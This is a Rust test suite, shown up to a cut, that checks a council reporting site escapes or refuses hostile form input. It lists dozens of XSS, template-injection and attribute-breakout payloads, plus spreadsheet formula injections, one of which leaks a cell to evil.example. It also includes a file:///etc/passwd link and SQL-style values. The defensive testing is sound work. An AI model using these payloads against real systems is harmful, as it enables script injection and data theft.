//! Hostile text in every field the staff site takes, on both backends: script tags, event
//! handlers, `javascript:` links, SVG and MathML, attribute breakouts, template syntax,
//! spreadsheet formulas, Unicode tricks, control characters and very long strings.
//!
//! Text the rules accept must come out only escaped in every HTML page that shows it (staff
//! pages, and the public pages once the period is published), as defused cells in every CSV
//! download, and exactly as written in every JSON one. Text the rules refuse must be refused
//! with a 400 that names the field, and change nothing.

mod common;

use axum::http::StatusCode;
use chrono::NaiveDate;
use common::{Client, World, backends, hidden};
use serde_json::Value;
use std::collections::{BTreeMap, HashMap, HashSet};
use waymark_domain::workflow::Role;
use waymark_store::User;
use waymark_web::opendata::cell_safe;
use waymark_web::render::escape_html;

/// `text` repeated and cut to exactly `chars` characters.
fn sized(text: &str, chars: usize) -> String {
    text.chars().cycle().take(chars).collect()
}

/// Text every text field of a return accepts (each non-blank, at most 10,000 characters,
/// without control characters other than line breaks and tabs).
fn texts() -> Vec<String> {
    let fixed = [
        // Script tags, in their many spellings.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(2)</scr</script>ipt>",
        "</textarea><script>alert(3)</script>",
        "</title><script>alert(4)</script>",
        "</script><script>alert(5)</script>",
        "<script\n>alert(6)</script\n>",
        // Event handlers.
        "<img src=x onerror=alert(7)>",
        "<img src=\"x\" onerror=\"alert(8)\">",
        "<body onload=alert(9)>",
        "<details open ontoggle=alert(10)>",
        "<input value=\"x\" onfocus=\"alert(11)\" autofocus>",
        // javascript: and data: links.
        "<a href=\"javascript:alert(12)\">click</a>",
        "javascript:alert(13)",
        "JaVaScRiPt:alert(14)//",
        "<iframe src=\"javascript:alert(15)\"></iframe>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=",
        "<object data=\"data:text/html,<script>alert(17)</script>\">",
        // SVG and MathML.
        "<svg/onload=alert(18)>",
        "<svg><script>alert(19)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(20)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>",
        "<math href=\"javascript:alert(22)\">CLICK</math>",
        // Breaking out of attributes with quotes and backticks.
        "\" onmouseover=\"alert(23)",
        "' onmouseover='alert(24)",
        "\"><script>alert(25)</script>",
        "'><script>alert(26)</script>",
        "`><img src=x onerror=alert(27)>`",
        "\" autofocus onfocus=alert(28) x=\"",
        "`onmouseover=alert(29)`",
        // Markup that changes the page around it.
        "<style>@import 'http://evil.example/x.css';</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
        "<base href=\"http://evil.example/\">",
        "<form action=\"http://evil.example/\"><button>Go</button></form>",
        "<!--<script>alert(34)</script>-->",
        "<![CDATA[<script>alert(35)</script>]]>",
        // Template syntax (this site's and others').
        "{{7*7}}",
        "{{ config.items() }}{{ self }}",
        "{% raw %}{{ secret }}{% endraw %}",
        "{% for x in range(3) %}x{% endfor %}{# comment #}",
        "${7*7} #{7*7} <%= 7*7 %>",
        // Spreadsheet formulas.
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        // Unicode tricks.
        "\u{202e}gpj.exe <b>right-to-left</b>",
        "zero\u{200b}width\u{200d}joiner\u{feff}bom",
        "＜script＞alert(50)＜/script＞",
        "\u{2028}line\u{2029}separators",
        "𝕏 emoji 🎉 and combining e\u{301} and ﷽",
        // Already-escaped and encoded text must not be unescaped on the way.
        "&lt;script&gt;alert(53)&lt;/script&gt;",
        "&#60;script&#62;alert(54)&#60;/script&#62; &amp; &quot;",
        "%3Cscript%3Ealert(55)%3C/script%3E",
        "\\u003cscript\\u003ealert(56)\\u003c/script\\u003e",
        "\"}]}\"; alert(57); //",
        // Line breaks and tabs are ordinary typing.
        "line one\r\nline two\n<b>three</b>\ttab",
    ];
    let mut all: Vec<String> = fixed.iter().map(|t| t.to_string()).collect();
    all.push(sized("<script>alert(60)</script>\"'`", 10_000));
    all.push(sized("é<", 10_000));
    all.push(sized("\"><svg onload=alert(62)>", 5_000));
    all
}

/// Evidence links the rules accept, hostile as they are.
fn links() -> Vec<String> {
    let fixed = [
        "https://example.org/\"><script>alert(101)</script>",
        "https://example.org/'onmouseover='alert(102)'",
        "https://example.org/?q=<svg/onload=alert(103)>",
        "https://example.org/#{{7*7}}{%raw%}",
        "https://example.org/`onfocus=alert(104)`",
        "HTTPS://EXAMPLE.ORG/=HYPERLINK(\"x\")",
        "https://example.org/path?a=1&b=<b>2</b>&amp;",
        "https://example.org:8443/%22%3E%3Cscript%3Ealert(105)%3C%2Fscript%3E",
        "https://[2001:db8::1]/\"onload=\"alert(106)",
        "http://xn--e1afmkfd.example/\u{202e}txt.exe",
        "https://example.org/javascript:alert(107)",
    ];
    let mut all: Vec<String> = fixed.iter().map(|t| t.to_string()).collect();
    all.push(format!(
        "https://example.org/?{}",
        sized("\"<x>", 2_000 - "https://example.org/?".len())
    ));
    all
}

/// Text the rules refuse in a return's texts: control characters and too much of it.
fn refused_texts() -> Vec<String> {
    let mut all: Vec<String> = [
        "nul \u{0} byte <script>alert(401)</script>",
        "bell \u{7}",
        "escape \u{1b}[31m red",
        "backspace \u{8}",
        "vertical \u{b} tab",
        "form \u{c} feed",
        "delete \u{7f}",
        "next line \u{85} (C1)",
        "control sequence \u{9b} (C1)",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push("a".repeat(10_001));
    all.push(sized("<script>alert(402)</script>", 10_001));
    all.push("é".repeat(10_001));
    all
}

/// Evidence lines the rules refuse.
fn refused_links() -> Vec<String> {
    let mut all: Vec<String> = [
        "javascript:alert(201)",
        "JavaScript:alert(202)//https://example.org/",
        "  javascript:alert(203)",
        "data:text/html,<script>alert(204)</script>",
        "vbscript:msgbox(205)",
        "//evil.example/206",
        "https://council.gov.uk@evil.example/207",
        "https://example.org/a b",
        "https://example.org/\u{0}x",
        // (At either end it would be trimmed away as white space: the rest is a good link.)
        "https://example.org/\u{85}x",
        "ftp://example.org/",
        "https://",
        "file:///etc/passwd",
        "\u{202e}https://example.org/",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push(format!("https://example.org/{}", "a".repeat(2_000)));
    all
}

/// Addresses the rules accept, hostile as they are.
fn emails() -> Vec<String> {
    [
        "\"><script>alert(301)</script>@evil.example",
        "'onmouseover='alert(302)'@evil.example",
        "<svg/onload=alert(303)>@evil.example",
        "=hyperlink(\"http://evil.example/?x\",'click')@evil.example",
        "+cmd|'/c_calc'!a0@evil.example",
        "-2+3+cmd@evil.example",
        "{{7*7}}{%raw%}@evil.example",
        "javascript:alert(308)//@evil.example",
        "\u{202e}lmth.exe@evil.example",
        "`onfocus=alert(310)`@evil.example",
        "x@<img/src/onerror=alert(311)>.example",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect()
}

fn refused_emails() -> Vec<String> {
    let mut all: Vec<String> = [
        "\"><script>alert(321)</script>",
        "a b@evil.example",
        "nul\u{0}@evil.example",
        "x@localhost",
        "@sum(1+1)@evil.example",
        "x@y@evil.example",
        "x@.example",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push(format!("{}@evil.example", "a".repeat(243)));
    all
}

/// Whether the text, shown raw, could change a page's markup.
fn dangerous(text: &str) -> bool {
    text.contains(['<', '>', '"'])
}

/// A payload as messages name it.
fn short(text: &str) -> String {
    let head: String = text.chars().take(40).collect();
    if head.len() < text.len() {
        format!("{head:?}… ({} characters)", text.chars().count())
    } else {
        format!("{head:?}")
    }
}

/// A string as it appears inside a JSON string literal.
fn json_inner(text: &str) -> String {
    let quoted = serde_json::to_string(text).unwrap_or_default();
    quoted[1..quoted.len() - 1].to_string()
}

/// Every string anywhere in a JSON document.
fn strings(value: &Value, out: &mut HashSet<String>) {
    match value {
        Value::String(s) => {
            out.insert(s.clone());
        }
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

/// What went wrong, all of it, to report at once.
#[derive(Default)]
struct Findings(Vec<String>);

impl Findings {
    fn check(&mut self, ok: bool, what: impl FnOnce() -> String) {
        if !ok {
            self.0.push(what());
        }
    }

    /// The text must not be in the page raw.
    fn not_raw(&mut self, place: &str, html: &str, text: &str) {
        self.check(!dangerous(text) || !html.contains(text), || {
            format!("{place}: {} is in the page unescaped", short(text))
        });
    }

    /// The text must be in the page, escaped, and not raw.
    fn escaped(&mut self, place: &str, html: &str, text: &str) {
        self.not_raw(place, html, text);
        self.check(html.contains(&escape_html(text)), || {
            format!("{place}: {} is not shown (escaped)", short(text))
        });
    }

    /// Parse a CSV download and check no cell would run as a formula.
    fn csv(&mut self, place: &str, body: &str) -> Vec<HashMap<String, String>> {
        let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
        let header: Vec<String> = match reader.headers() {
            Ok(h) => h.iter().map(str::to_string).collect(),
            Err(e) => {
                self.0.push(format!("{place}: not CSV: {e}"));
                return vec![];
            }
        };
        let mut rows = vec![];
        for record in reader.records() {
            let record = match record {
                Ok(r) => r,
                Err(e) => {
                    self.0.push(format!("{place}: not CSV: {e}"));
                    return rows;
                }
            };
            for cell in record.iter() {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                    && cell.parse::<f64>().is_err();
                self.check(!formula, || {
                    format!("{place}: a cell would run as a formula: {}", short(cell))
                });
            }
            rows.push(
                header
                    .iter()
                    .cloned()
                    .zip(record.iter().map(str::to_string))
                    .collect(),
            );
        }
        rows
    }

    fn json(&mut self, place: &str, body: &str) -> Value {
        serde_json::from_str(body).unwrap_or_else(|e| {
            self.0.push(format!("{place}: not JSON: {e}"));
            Value::Null
        })
    }

    fn finish(self) {
        assert!(
            self.0.is_empty(),
            "{} problems:\n{}",
            self.0.len(),
            self.0.join("\n")
        );
    }
}

/// A signed-in browser and its forms' token.
struct Browser {
    client: Client,
    csrf: String,
}

impl Browser {
    async fn new(world: &World, email: &str) -> Browser {
        let mut client = world.signed_in(email).await;
        let (_, _, html) = client.get("/staff").await;
        let csrf = hidden(&html, "csrf").expect("token");
        Browser { client, csrf }
    }

    async fn get(&mut self, path: &str) -> (StatusCode, String) {
        let (status, _, body) = self.client.get(path).await;
        (status, body)
    }

    async fn post(&mut self, path: &str, fields: &[(&str, &str)]) -> (StatusCode, String) {
        let mut all = vec![("csrf", self.csrf.as_str())];
        all.extend_from_slice(fields);
        let (status, _, body) = self.client.post_raw(path, &all).await;
        (status, body)
    }
}

/// Activities with a reference no other activity shares, for their public pages.
async fn activities(world: &World, count: usize) -> Vec<(i64, String)> {
    let all = world
        .store()
        .activities(&world.org, None)
        .await
        .expect("activities");
    let mut uses: HashMap<String, usize> = HashMap::new();
    for a in &all {
        if let Some(r) = &a.reference {
            *uses.entry(r.clone()).or_default() += 1;
        }
    }
    let chosen: Vec<(i64, String)> = all
        .iter()
        .filter(|a| a.in_plan)
        .filter_map(|a| Some((a.id, a.reference.clone()?)))
        .filter(|(_, r)| uses.get(r) == Some(&1))
        .take(count)
        .collect();
    assert_eq!(chosen.len(), count, "enough activities");
    chosen
}

async fn open_period(world: &World, admin: &User) -> i64 {
    world
        .store()
        .open_cycle(
            &world.org,
            "2025/26 Q1".parse().expect("period"),
            NaiveDate::from_ymd_opt(2025, 7, 31).expect("date"),
            admin,
            world.clock.now(),
        )
        .await
        .expect("open")
        .id
}

async fn assign(world: &World, cycle: i64, activity: i64, owner: &User, admin: &User) {
    world
        .store()
        .assign_owner(
            &world.org,
            cycle,
            activity,
            Some(owner.id),
            admin,
            world.clock.now(),
        )
        .await
        .expect("assign");
}

/// Every page of the audit trail, newest first, as one text.
async fn audit_pages(admin: &mut Browser) -> String {
    let mut all = String::new();
    let mut next = Some("/staff/audit".to_string());
    while let Some(path) = next {
        let (status, html) = admin.get(&path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        next = html
            .split("href=\"/staff/audit?before=")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .map(|seq| format!("/staff/audit?before={seq}"));
        all.push_str(&html);
    }
    all
}

/// A form that must be refused: where it goes, what it says, the field the error must name
/// and the text that must be shown back escaped (empty: none is shown back).
struct Case {
    path: String,
    fields: Vec<(&'static str, String)>,
    field: &'static str,
    typed: String,
}

fn case(
    path: impl Into<String>,
    fields: Vec<(&'static str, String)>,
    field: &'static str,
    typed: impl Into<String>,
) -> Case {
    Case {
        path: path.into(),
        fields,
        field,
        typed: typed.into(),
    }
}

#[tokio::test]
async fn hostile_returns_are_shown_escaped_on_staff_and_public_pages_and_exports() {
    let mut found = Findings::default();
    let texts = texts();
    let links = links();
    assert!(texts.len() >= 50, "{} payloads", texts.len());
    assert!(texts.iter().all(|t| !t.trim().is_empty()));
    let comments: Vec<&String> = texts
        .iter()
        .filter(|t| t.trim().chars().count() <= waymark_store::cycle::MAX_COMMENT_CHARS)
        .collect();
    let n = texts.len();
    for backend in backends() {
        let world = World::new(backend).await;
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        let owner = world
            .person("owner@bexley.example", Role::Owner, None)
            .await;
        world
            .person("councillor@bexley.example", Role::Reader, None)
            .await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let mut owner_b = Browser::new(&world, "owner@bexley.example").await;
        let mut reader_b = Browser::new(&world, "councillor@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        let chosen = activities(&world, n).await;
        for (id, _) in &chosen {
            assign(&world, cycle, *id, &owner, &admin).await;
        }

        // Each return carries three payloads in its texts, two links and a reviewer's
        // comment; across the returns every payload is in every field.
        let mut placed: Vec<(String, [&str; 6])> = vec![];
        for (i, (id, reference)) in chosen.iter().enumerate() {
            let path = format!("/staff/periods/{cycle}/activities/{id}");
            let place = format!("{backend:?} return for {reference}");
            let commentary = texts[i].as_str();
            let corrective = texts[(i + 1) % n].as_str();
            let reason = texts[(i + 2) % n].as_str();
            let first = links[i % links.len()].as_str();
            let second = links[(i + 1) % links.len()].as_str();
            let evidence = format!("{first}\n{second}");
            let comment = comments[i % comments.len()].as_str();
            for (action, revision) in [("save", "0"), ("submit", "1")] {
                let (status, html) = owner_b
                    .post(
                        &path,
                        &[
                            ("action", action),
                            ("revision", revision),
                            ("status", "amber"),
                            ("commentary", commentary),
                            ("corrective_action", corrective),
                            ("reason", reason),
                            ("evidence", &evidence),
                        ],
                    )
                    .await;
                found.check(status == StatusCode::SEE_OTHER, || {
                    format!("{place}: {action} got {status}: {}", short(&html))
                });
            }
            let (_, html) = owner_b.get(&path).await;
            for text in [commentary, corrective, reason, first, second] {
                found.escaped(&format!("{place}, owner's page"), &html, text);
            }
            let (status, html) = admin_b
                .post(
                    &path,
                    &[
                        ("action", "approve"),
                        ("revision", "2"),
                        ("comment", comment),
                    ],
                )
                .await;
            found.check(status == StatusCode::SEE_OTHER, || {
                format!("{place}: approving got {status}: {}", short(&html))
            });
            let (_, html) = admin_b.get(&path).await;
            for text in [
                commentary,
                corrective,
                reason,
                first,
                second,
                comment.trim(),
            ] {
                found.escaped(&format!("{place}, admin's page"), &html, text);
            }
            let (status, html) = reader_b.get(&path).await;
            found.check(status == StatusCode::OK, || {
                format!("{place}: the reader got {status}")
            });
            found.escaped(&format!("{place}, reader's page"), &html, commentary);
            placed.push((
                reference.clone(),
                [commentary, corrective, reason, first, second, comment],
            ));
        }

        // Pages that list returns show none of their text, and nothing raw.
        let period_page = format!("/staff/periods/{cycle}");
        for (who, path) in [
            ("owner", "/staff"),
            ("reader", "/staff"),
            ("admin", "/staff"),
            ("owner", period_page.as_str()),
            ("reader", period_page.as_str()),
            ("admin", period_page.as_str()),
            ("admin", "/staff/periods"),
        ] {
            let browser = match who {
                "owner" => &mut owner_b,
                "reader" => &mut reader_b,
                _ => &mut admin_b,
            };
            let (status, html) = browser.get(path).await;
            let place = format!("{backend:?} {path} for the {who}");
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            for text in texts.iter().chain(&links) {
                found.not_raw(&place, &html, text);
            }
        }

        // The audit trail: its pages, and its downloads.
        let trail = audit_pages(&mut admin_b).await;
        let place = format!("{backend:?} audit trail");
        for text in texts.iter().chain(&links) {
            found.not_raw(&place, &trail, text);
            found.check(trail.contains(&escape_html(&json_inner(text))), || {
                format!("{place}: {} is not shown (escaped)", short(text))
            });
        }
        let (status, csv) = admin_b.get("/staff/audit.csv").await;
        found.check(status == StatusCode::OK, || format!("audit.csv: {status}"));
        let rows = found.csv(&format!("{backend:?} audit.csv"), &csv);
        let cells: String = rows
            .iter()
            .flat_map(|r| r.values().cloned())
            .collect::<Vec<_>>()
            .join("\n");
        for text in texts.iter().chain(&links) {
            found.check(cells.contains(&json_inner(text)), || {
                format!("{backend:?} audit.csv: {} is missing", short(text))
            });
        }
        let (status, json) = admin_b.get("/staff/audit.json").await;
        found.check(status == StatusCode::OK, || format!("audit.json: {status}"));
        let mut all = HashSet::new();
        strings(
            &found.json(&format!("{backend:?} audit.json"), &json),
            &mut all,
        );
        for text in texts.iter().chain(&links) {
            found.check(all.contains(text.as_str()), || {
                format!("{backend:?} audit.json: {} is missing", short(text))
            });
        }
        for comment in &comments {
            found.check(all.contains(comment.trim()), || {
                format!(
                    "{backend:?} audit.json: comment {} is missing",
                    short(comment)
                )
            });
        }

        // Lock and publish through the site.
        for action in ["lock", "publish"] {
            let (_, html) = admin_b.get(&format!("/staff/periods/{cycle}")).await;
            let revision = hidden(&html, "revision").expect("period revision");
            let (status, _) = admin_b
                .post(
                    &format!("/staff/periods/{cycle}/state"),
                    &[("action", action), ("revision", &revision)],
                )
                .await;
            assert_eq!(status, StatusCode::SEE_OTHER, "{backend:?} {action}");
        }

        // The public site: each activity's page, its JSON, the period's report, the downloads.
        let mut public = Client::new(world.app.clone());
        for (reference, [commentary, rest @ ..]) in &placed {
            let place = format!("{backend:?} public page of {reference}");
            let (status, _, html) = public.get(&format!("/activities/{reference}")).await;
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            found.escaped(&place, &html, commentary);
            for text in rest {
                found.not_raw(&place, &html, text);
            }
            let (status, _, json) = public.get(&format!("/api/v1/activities/{reference}")).await;
            found.check(status == StatusCode::OK, || {
                format!("{place} JSON: {status}")
            });
            let value = found.json(&place, &json);
            let published = value["history"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|h| h["commentary"].as_str() == Some(commentary));
            found.check(published, || {
                format!("{place} JSON: {} is not in its history", short(commentary))
            });
        }
        let (status, _, html) = public.get("/reports/2025-26-q1").await;
        found.check(status == StatusCode::OK, || format!("report: {status}"));
        for text in texts.iter().chain(&links) {
            found.not_raw(&format!("{backend:?} report"), &html, text);
        }
        let wanted: BTreeMap<&str, &str> = placed
            .iter()
            .map(|(reference, fields)| (reference.as_str(), fields[0]))
            .collect();

        let (_, _, csv) = public.get("/data/statuses.csv").await;
        let place = format!("{backend:?} statuses.csv");
        let rows = found.csv(&place, &csv);
        for (reference, commentary) in &wanted {
            let cell = rows
                .iter()
                .find(|r| r["period"] == "2025-26-q1" && r["reference"] == *reference)
                .map(|r| r["commentary"].clone());
            found.check(
                cell.as_deref() == Some(cell_safe(commentary).as_str()),
                || {
                    format!(
                        "{place}: {reference} has {cell:?}, not {}",
                        short(commentary)
                    )
                },
            );
        }
        let (_, _, csv) = public.get("/data/activities.csv").await;
        found.csv(&format!("{backend:?} activities.csv"), &csv);

        let (_, _, json) = public.get("/data/statuses.json").await;
        let place = format!("{backend:?} statuses.json");
        let value = found.json(&place, &json);
        for (reference, commentary) in &wanted {
            let ok = value["statuses"].as_array().into_iter().flatten().any(|s| {
                s["period"] == "2025-26-q1"
                    && s["reference"] == *reference
                    && s["commentary"].as_str() == Some(commentary)
            });
            found.check(ok, || {
                format!("{place}: {reference} lacks {}", short(commentary))
            });
        }
        let (_, _, json) = public.get("/api/v1/activities?period=2025-26-q1").await;
        let place = format!("{backend:?} /api/v1/activities");
        let value = found.json(&place, &json);
        for (reference, commentary) in &wanted {
            let ok = value["activities"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|a| {
                    a["reference"] == *reference && a["commentary"].as_str() == Some(commentary)
                });
            found.check(ok, || {
                format!("{place}: {reference} lacks {}", short(commentary))
            });
        }
        let check = world.store().verify_audit().await.expect("verify");
        assert!(
            check.problems.is_empty(),
            "{backend:?}: {:?}",
            check.problems
        );
    }
    found.finish();
}

#[tokio::test]
async fn hostile_returns_the_rules_refuse_change_nothing() {
    let mut found = Findings::default();
    for backend in backends() {
        let world = World::new(backend).await;
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        let owner = world
            .person("owner@bexley.example", Role::Owner, None)
            .await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let mut owner_b = Browser::new(&world, "owner@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        let chosen = activities(&world, 2).await;
        for (id, _) in &chosen {
            assign(&world, cycle, *id, &owner, &admin).await;
        }
        let path = format!("/staff/periods/{cycle}/activities/{}", chosen[0].0);
        let good = [
            ("status", "red"),
            ("commentary", "Behind, and why."),
            ("corrective_action", "Extra staff from May."),
            ("reason", ""),
            ("evidence", "https://www.bexley.gov.uk/"),
        ];
        // A refused form: 400, naming the field, nothing changed, and what was typed shown
        // back escaped.
        let refused = async |browser: &mut Browser,
                             found: &mut Findings,
                             path: &str,
                             fields: &[(&str, &str)],
                             field: &str,
                             typed: &str| {
            let before = world.store().row_counts().await.expect("counts");
            let (status, html) = browser.post(path, fields).await;
            let place = format!("{backend:?} {path} with {field} {}", short(typed));
            found.check(status == StatusCode::BAD_REQUEST, || {
                format!("{place}: got {status}")
            });
            found.check(html.contains(&format!("href=\"#{field}\"")), || {
                format!("{place}: the error does not name the field")
            });
            found.check(
                world.store().row_counts().await.expect("counts") == before,
                || format!("{place}: something changed"),
            );
            if !typed.is_empty() {
                found.escaped(&place, &html, typed);
            }
        };

        // Return texts, saved or submitted.
        for text in refused_texts() {
            for field in ["commentary", "corrective_action", "reason"] {
                for action in ["save", "submit"] {
                    let mut fields = vec![("action", action), ("revision", "0")];
                    fields.extend(good.iter().map(|&(k, v)| {
                        if k == field {
                            (k, text.as_str())
                        } else {
                            (k, v)
                        }
                    }));
                    refused(&mut owner_b, &mut found, &path, &fields, field, &text).await;
                }
            }
        }
        // Evidence lines.
        let mut lines: Vec<String> = refused_links()
            .into_iter()
            .map(|bad| format!("https://www.bexley.gov.uk/\n{bad}"))
            .collect();
        lines.push(["https://www.bexley.gov.uk/"; 11].join("\n"));
        for evidence in &lines {
            let mut fields = vec![("action", "save"), ("revision", "0")];
            fields.extend(good.iter().map(|&(k, v)| {
                if k == "evidence" {
                    (k, evidence.as_str())
                } else {
                    (k, v)
                }
            }));
            refused(
                &mut owner_b,
                &mut found,
                &path,
                &fields,
                "evidence",
                evidence,
            )
            .await;
        }
        // Statuses that are not among the choices.
        for status in ["\"><script>alert(501)</script>", "no_return", "GREEN", ""] {
            let mut fields = vec![("action", "submit"), ("revision", "0")];
            fields.extend(
                good.iter()
                    .map(|&(k, v)| if k == "status" { (k, status) } else { (k, v) }),
            );
            refused(&mut owner_b, &mut found, &path, &fields, "status", "").await;
        }

        // Reviewers' comments: submit a good return, then review it badly.
        let mut fields = vec![("action", "submit"), ("revision", "0")];
        fields.extend_from_slice(&good);
        let (status, _) = owner_b.post(&path, &fields).await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{backend:?}: {:?}", found.0);
        let mut comments = refused_texts();
        comments.truncate(9);
        comments.push("x".repeat(5_001));
        comments.push(sized("<b>\"", 5_100));
        for comment in &comments {
            for action in ["approve", "send_back"] {
                let fields = [
                    ("action", action),
                    ("revision", "1"),
                    ("comment", comment.as_str()),
                ];
                refused(&mut admin_b, &mut found, &path, &fields, "comment", comment).await;
            }
        }
        let fields = [
            ("action", "send_back"),
            ("revision", "1"),
            ("comment", "  \n "),
        ];
        refused(&mut admin_b, &mut found, &path, &fields, "comment", "").await;

        // Fields that are not text at all: refused, changing nothing, never shown raw.
        let owner_path = format!("{path}/owner");
        for hostile in [
            "\"><script>alert(502)</script>",
            "1 OR 1=1",
            "-1",
            "999999",
            "1e3",
        ] {
            let cases: [(&str, Vec<(&str, &str)>); 4] = [
                (
                    &path,
                    vec![
                        ("action", "approve"),
                        ("revision", hostile),
                        ("comment", ""),
                    ],
                ),
                (
                    &path,
                    vec![("action", hostile), ("revision", "1"), ("comment", "")],
                ),
                (&owner_path, vec![("owner", hostile)]),
                (
                    &format!("/staff/periods/{cycle}/state"),
                    vec![("action", hostile), ("revision", "1")],
                ),
            ];
            for (target, fields) in cases {
                let before = world.store().row_counts().await.expect("counts");
                let (status, html) = admin_b.post(target, &fields).await;
                let place = format!("{backend:?} {target} with {}", short(hostile));
                found.check(status.is_client_error(), || {
                    format!("{place}: got {status}")
                });
                found.check(
                    world.store().row_counts().await.expect("counts") == before,
                    || format!("{place}: something changed"),
                );
                found.not_raw(&place, &html, hostile);
            }
        }
    }
    found.finish();
}

#[tokio::test]
async fn hostile_names_addresses_periods_and_sign_ins() {
    let mut found = Findings::default();
    let texts = texts();
    // A name is one line of at most 200 characters.
    let names: Vec<&String> = texts
        .iter()
        .filter(|t| t.trim().chars().count() <= 200 && !t.trim().chars().any(char::is_control))
        .collect();
    assert!(names.len() >= 40, "{} names", names.len());
    let emails = emails();
    for backend in backends() {
        let world = World::new(backend).await;
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        let store = world.store();

        // Names: added, then changed to the next one, shown escaped wherever they appear.
        let mut people: Vec<(User, &str)> = vec![];
        for (k, name) in names.iter().enumerate() {
            let email = format!("person{k}@bexley.example");
            let (status, html) = admin_b
                .post(
                    "/staff/people",
                    &[
                        ("email", &email),
                        ("name", name),
                        ("role", "owner"),
                        ("directorate", ""),
                    ],
                )
                .await;
            let place = format!("{backend:?} adding {}", short(name));
            found.check(status == StatusCode::OK, || {
                format!("{place}: got {status}")
            });
            found.escaped(&place, &html, name.trim());
            let user = store
                .user_by_email(&email)
                .await
                .expect("user")
                .expect("added");
            let renamed = names[(k + 1) % names.len()].as_str();
            let (status, html) = admin_b
                .post(
                    &format!("/staff/people/{}", user.id),
                    &[
                        ("action", "change"),
                        ("name", renamed),
                        ("role", "owner"),
                        ("directorate", ""),
                        ("active", "yes"),
                    ],
                )
                .await;
            let place = format!("{backend:?} renaming to {}", short(renamed));
            found.check(status == StatusCode::OK, || {
                format!("{place}: got {status}")
            });
            found.escaped(&place, &html, renamed.trim());
            people.push((user, renamed.trim()));
        }
        // Addresses.
        for (k, email) in emails.iter().enumerate() {
            let name = format!("Address {k}");
            let (status, html) = admin_b
                .post(
                    "/staff/people",
                    &[
                        ("email", email),
                        ("name", &name),
                        ("role", "owner"),
                        ("directorate", ""),
                    ],
                )
                .await;
            let shown = email.trim().to_lowercase();
            let place = format!("{backend:?} adding {}", short(email));
            found.check(status == StatusCode::OK, || {
                format!("{place}: got {status}")
            });
            found.escaped(&place, &html, &shown);
            let user = store
                .user_by_email(email)
                .await
                .expect("user")
                .expect("added");
            let (_, html) = admin_b.get(&format!("/staff/people/{}", user.id)).await;
            found.escaped(&format!("{place}: their page"), &html, &shown);
            people.push((user, ""));
        }
        // Give each an activity, so their names are on the period's pages too.
        let chosen = activities(&world, people.len()).await;
        for ((user, _), (activity, _)) in people.iter().zip(&chosen) {
            assign(&world, cycle, *activity, user, &admin).await;
        }
        let (_, list) = admin_b.get("/staff/people").await;
        let (_, period) = admin_b.get(&format!("/staff/periods/{cycle}")).await;
        let (_, page) = admin_b
            .get(&format!(
                "/staff/periods/{cycle}/activities/{}",
                chosen[0].0
            ))
            .await;
        // The people page and a return's choice of owner show names and addresses; the
        // period's page shows owners' names.
        for (user, name) in &people {
            for (what, html) in [("people", &list), ("return", &page)] {
                let place = format!("{backend:?} {what} page");
                found.escaped(&place, html, &user.email);
                if !name.is_empty() {
                    found.escaped(&place, html, name);
                }
            }
            let place = format!("{backend:?} period page");
            found.not_raw(&place, &period, &user.email);
            if !name.is_empty() {
                found.escaped(&place, &period, name);
            }
        }
        // Failed sign-ins as the addresses that look like formulas: the audit trail's actor.
        let formulas: Vec<&String> = emails
            .iter()
            .filter(|e| e.starts_with(['=', '+', '-', '@']))
            .collect();
        for email in &formulas {
            let mut anyone = Client::new(world.app.clone());
            let (status, _, html) = anyone.sign_in(email, "not the password at all").await;
            let place = format!("{backend:?} signing in as {}", short(email));
            found.check(status == StatusCode::UNAUTHORIZED, || {
                format!("{place}: {status}")
            });
            found.escaped(&place, &html, email);
        }
        let trail = audit_pages(&mut admin_b).await;
        for (user, name) in &people {
            found.escaped(
                &format!("{backend:?} audit trail"),
                &trail,
                &json_inner(&user.email),
            );
            if !name.is_empty() {
                found.escaped(
                    &format!("{backend:?} audit trail"),
                    &trail,
                    &json_inner(name),
                );
            }
        }
        let (_, csv) = admin_b.get("/staff/audit.csv").await;
        let rows = found.csv(&format!("{backend:?} audit.csv"), &csv);
        for email in &formulas {
            let actor = cell_safe(&email.to_lowercase());
            found.check(rows.iter().any(|r| r["actor"] == actor), || {
                format!("{backend:?} audit.csv: no actor cell {}", short(&actor))
            });
        }
        let (_, json) = admin_b.get("/staff/audit.json").await;
        let mut all = HashSet::new();
        strings(
            &found.json(&format!("{backend:?} audit.json"), &json),
            &mut all,
        );
        for (user, name) in &people {
            found.check(
                all.contains(&user.email) && (name.is_empty() || all.contains(*name)),
